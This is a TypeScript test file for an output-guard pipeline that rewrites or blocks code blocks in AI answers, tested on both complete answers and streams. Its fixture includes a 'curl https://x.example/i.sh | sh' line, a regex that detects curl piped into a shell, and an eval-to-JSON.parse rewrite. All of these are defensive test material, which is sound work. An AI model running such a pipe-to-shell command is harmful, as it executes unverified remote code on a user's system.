import type { ChatCompletionRequest } from '@plumb/protocol';
import { describe, expect, it } from 'vitest';
import type { Guard, GuardContext } from './guard.ts';
import { createGuardPipeline } from './guard-pipeline.ts';

const request: ChatCompletionRequest = {
  model: 'local/test',
  mode: 'code',
  messages: [{ role: 'user', content: 'x' }],
};
const context: GuardContext = { request, messages: request.messages };

/** An example guard: replaces `eval(` in code blocks with a safe call, like a security repair would. */
const evalRepairGuard: Guard = {
  name: 'eval-repair',
  checkCodeBlock(block) {
    if (!block.content.includes('eval(')) return { action: 'pass' };
    return {
      action: 'rewrite',
      content: block.content.replaceAll('eval(', 'JSON.parse('),
      findings: [{ severity: 'error', message: 'eval of untrusted input (CWE-95)' }],
    };
  },
};

/** An example guard: blocks shell blocks that pipe a download into a shell. */
const curlPipeGuard: Guard = {
  name: 'curl-pipe',
  checkCodeBlock(block) {
    return /curl[^\n|]*\|\s*(ba)?sh/.test(block.content)
      ? { action: 'block', findings: [{ severity: 'error', message: 'pipes a download into a shell' }] }
      : { action: 'pass' };
  },
};

const answer =
  'Parse it:\n\n```js path=src/parse.js\nconst value = eval(input);\n```\n\nInstall:\n```sh\ncurl https://x.example/i.sh | sh\n```\nDone.';

describe('createGuardPipeline: complete answers', () => {
  it('returns the answer unchanged and no reports without guards', async () => {
    const result = await createGuardPipeline([]).check(
      { content: answer, toolCalls: [], codeBlocks: [] },
      context,
    );
    expect(result).toEqual({ content: answer, reports: [], blocked: false });
  });

  it('rewrites and blocks single code blocks and reports each guard once', async () => {
    const pipeline = createGuardPipeline([evalRepairGuard, curlPipeGuard]);
    const result = await pipeline.check({ content: answer, toolCalls: [], codeBlocks: [] }, context);
    expect(result.content).toBe(
      'Parse it:\n\n```js path=src/parse.js\nconst value = JSON.parse(input);\n```\n\nInstall:\n' +
        '> **Blocked by Plumb:** the guard "curl-pipe" withheld this sh code block: pipes a download into a shell (error).\nDone.',
    );
    expect(result.reports).toEqual([
      {
        guard: 'eval-repair',
        action: 'rewrite',
        findings: [{ severity: 'error', message: 'eval of untrusted input (CWE-95)' }],
      },
      {
        guard: 'curl-pipe',
        action: 'block',
        findings: [{ severity: 'error', message: 'pipes a download into a shell' }],
      },
    ]);
    expect(result.blocked).toBe(false);
  });

  it('feeds a rewritten block to the next guard, and uses a replacement when given', async () => {
    const seen: string[] = [];
    const recorder: Guard = {
      name: 'recorder',
      checkCodeBlock(block) {
        seen.push(block.content);
        return { action: 'block', findings: [], replacement: '(removed)' };
      },
    };
    const result = await createGuardPipeline([evalRepairGuard, recorder]).check(
      { content: '```js\neval(a)\n```\nafter', toolCalls: [], codeBlocks: [] },
      context,
    );
    expect(seen).toEqual(['JSON.parse(a)\n']);
    expect(result.content).toBe('(removed)\nafter');
  });

  it('lengthens the fence when rewritten content contains a fence', async () => {
    const nester: Guard = {
      name: 'nester',
      checkCodeBlock: () => ({
        action: 'rewrite',
        content: '# Readme\n```sh\nnpm test\n```\n',
        findings: [],
      }),
    };
    const result = await createGuardPipeline([nester]).check(
      { content: '```md path=README.md\nold\n```\n', toolCalls: [], codeBlocks: [] },
      context,
    );
    expect(result.content).toBe('````md path=README.md\n# Readme\n```sh\nnpm test\n```\n````\n');
  });

  it('runs answer guards in order: a rewrite feeds the next, a block stops the pipeline', async () => {
    const seen: Array<string | null> = [];
    const rewriter: Guard = {
      name: 'rewriter',
      checkAnswer: () => ({ action: 'rewrite', content: 'rewritten', findings: [] }),
    };
    const blocker: Guard = {
      name: 'blocker',
      checkAnswer(current) {
        seen.push(current.content);
        return {
          action: 'block',
          findings: [{ severity: 'error', message: 'violates constraint "no GPL"' }],
        };
      },
    };
    const never: Guard = { name: 'never', checkAnswer: () => ({ action: 'annotate', findings: [] }) };
    const result = await createGuardPipeline([rewriter, blocker, never]).check(
      { content: 'original', toolCalls: [], codeBlocks: [] },
      context,
    );
    expect(seen).toEqual(['rewritten']);
    expect(result.blocked).toBe(true);
    expect(result.content).toBe(
      '> **Blocked by Plumb:** the guard "blocker" withheld this answer: violates constraint "no GPL" (error).\n',
    );
    expect(result.reports.map((report) => [report.guard, report.action])).toEqual([
      ['rewriter', 'rewrite'],
      ['blocker', 'block'],
    ]);
  });

  it('gives answer guards the code blocks of the current text', async () => {
    let blocks: unknown;
    const inspector: Guard = {
      name: 'inspector',
      checkAnswer(current) {
        blocks = current.codeBlocks;
        return { action: 'annotate', findings: [{ severity: 'info', message: 'looked' }] };
      },
    };
    const result = await createGuardPipeline([evalRepairGuard, inspector]).check(
      { content: '```js\neval(a)\n```\n', toolCalls: [], codeBlocks: [] },
      context,
    );
    expect(blocks).toEqual([{ language: 'js', path: null, content: 'JSON.parse(a)\n' }]);
    expect(result.reports[1]).toEqual({
      guard: 'inspector',
      action: 'annotate',
      findings: [{ severity: 'info', message: 'looked' }],
    });
  });

  it('keeps the answer when a guard throws or returns no verdict', async () => {
    const thrower: Guard = {
      name: 'thrower',
      checkCodeBlock: () => {
        throw new Error('parser crashed');
      },
    };
    const silent = { name: 'silent', checkAnswer: () => undefined } as unknown as Guard;
    const result = await createGuardPipeline([thrower, silent, evalRepairGuard]).check(
      { content: '```js\neval(a)\n```\n', toolCalls: [], codeBlocks: [] },
      context,
    );
    expect(result.content).toBe('```js\nJSON.parse(a)\n```\n');
    expect(result.reports[0]).toEqual({
      guard: 'thrower',
      action: 'pass',
      findings: [{ severity: 'warning', message: 'guard thrower failed: parser crashed' }],
    });
    expect(result.reports[1]).toMatchObject({ guard: 'silent', action: 'pass' });
    expect(result.reports[2]).toMatchObject({ guard: 'eval-repair', action: 'rewrite' });
  });
});

describe('createGuardPipeline: streams', () => {
  async function streamThrough(guards: Guard[], deltas: string[]) {
    const streamGuard = createGuardPipeline(guards).createStreamGuard(context);
    const sent: string[] = [];
    for (const delta of deltas) sent.push(await streamGuard.push(delta));
    const { text, reports } = await streamGuard.finish({ toolCalls: [] });
    sent.push(text);
    return { sent, reports };
  }

  function characters(text: string): string[] {
    return [...text];
  }

  it('passes every delta through unchanged when no guard checks code blocks', async () => {
    const answerOnly: Guard = { name: 'answer-only', checkAnswer: () => ({ action: 'pass' }) };
    const deltas = ['```js\nev', 'al(x)\n', '```'];
    const { sent, reports } = await streamThrough([answerOnly], deltas);
    expect(sent).toEqual([...deltas, '']);
    expect(reports).toEqual([{ guard: 'answer-only', action: 'pass', findings: [] }]);
  });

  it('sends text at once, holds a code block until its closing fence, then releases it checked', async () => {
    const streamGuard = createGuardPipeline([evalRepairGuard]).createStreamGuard(context);
    expect(await streamGuard.push('Here you go')).toBe('Here you go');
    expect(await streamGuard.push(':\n```js\nconst v = ev')).toBe(':\n');
    expect(await streamGuard.push('al(input);\n')).toBe('');
    expect(await streamGuard.push('```\nEnjoy')).toBe('```js\nconst v = JSON.parse(input);\n```\nEnjoy');
    expect(await streamGuard.finish({ toolCalls: [] })).toEqual({
      text: '',
      reports: [
        {
          guard: 'eval-repair',
          action: 'rewrite',
          findings: [{ severity: 'error', message: 'eval of untrusted input (CWE-95)' }],
        },
      ],
    });
  });

  it('produces the same text as the complete-answer path, whatever the delta sizes', async () => {
    const guards = [evalRepairGuard, curlPipeGuard];
    const complete = await createGuardPipeline(guards).check(
      { content: answer, toolCalls: [], codeBlocks: [] },
      context,
    );
    const { sent, reports } = await streamThrough(guards, characters(answer));
    expect(sent.join('')).toBe(complete.content);
    expect(reports).toEqual(complete.reports);
  });

  it('releases an unclosed code block at the end of the stream', async () => {
    const { sent } = await streamThrough([evalRepairGuard], ['```js\neval(1)']);
    expect(sent).toEqual(['', '```js\nJSON.parse(1)']);
  });

  it('reports an end-of-stream rewrite or block as annotate, since the text was sent', async () => {
    const rewriter: Guard = {
      name: 'rewriter',
      checkAnswer: () => ({
        action: 'rewrite',
        content: 'x',
        findings: [{ severity: 'warning', message: 'uses a prerelease' }],
      }),
    };
    const { sent, reports } = await streamThrough([rewriter], ['some ', 'text']);
    expect(sent.join('')).toBe('some text');
    expect(reports).toEqual([
      {
        guard: 'rewriter',
        action: 'annotate',
        findings: [
          { severity: 'warning', message: 'uses a prerelease' },
          { severity: 'warning', message: expect.stringContaining('already been streamed') as string },
        ],
      },
    ]);
  });
});
